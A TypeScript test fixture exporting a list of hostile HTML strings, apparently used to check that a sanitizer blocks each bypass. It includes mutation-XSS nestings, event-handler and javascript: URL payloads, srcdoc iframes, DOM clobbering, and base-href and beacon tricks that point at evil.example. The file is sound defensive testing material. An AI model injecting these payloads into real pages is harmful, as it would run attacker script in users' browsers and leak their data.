/** Hostile texts, one for each way to get around an allow-list or a policy. */
export const HOSTILE = [
  // An h1, which the site changes into an h2.
  '<math><mtext><h1><mglyph><style><img src=x onerror=alert(1)></style></mglyph></h1></mtext></math>',
  '<h1 is="x-y"><h1 slot=a><details open ontoggle=alert(1)>a</details></h1></h1>',
  // Markup that becomes something else when it is parsed once more.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a title="</style><img src onerror=alert(1)>">',
  '<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></desc></svg>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<p title="<!--"><img src=x alt="--><img src=x onerror=alert(1)>">',
  '<table><caption><figure><table><td><img src=x onerror=alert(1)></figure></caption></table>',
  // SVG and MathML.
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">click</text></a></svg>',
  '<svg><set attributeName="x" onbegin=alert(1) begin="0s" dur="1s" /></svg>',
  '<math href="javascript:alert(1)"><mi onclick=alert(1)>a</mi></math>',
  // Handlers.
  '<p onclick=alert(1)>a</p>',
  '<img src=x onerror=alert(1)>',
  '<p style="animation: a 1ms" onanimationstart=alert(1)>a</p><style>@keyframes a{}</style>',
  // Links and frames.
  '<a href="java&Tab;script:alert(1)">click</a>',
  '<a href="https://a.example" target="_top" ping="https://evil.example/ping" download>click</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>parent.alert(1)</script>" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  // Forms and other controls.
  '<form><button formaction="javascript:alert(1)">click</button></form>',
  '<button popovertarget=p>click</button><p id=p popover onbeforetoggle=alert(1)>a</p>',
  // Names that hide the document's own.
  '<form name=body><img name=createElement><input name=attributes></form>',
  '<img name=currentScript data-modules="data:text/javascript,alert(1)" data-at-once=1>',
  // What changes the whole page.
  '<base href="https://evil.example/"><script src="/x.js"></script>',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  '<link rel=modulepreload href="data:text/javascript,alert(1)"><script type=module src="data:text/javascript,alert(1)"></script>',
  '<script>alert(1)</script>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<style>p{position:fixed;inset:0}</style><p style="background:url(https://evil.example/)">a</p>',
];
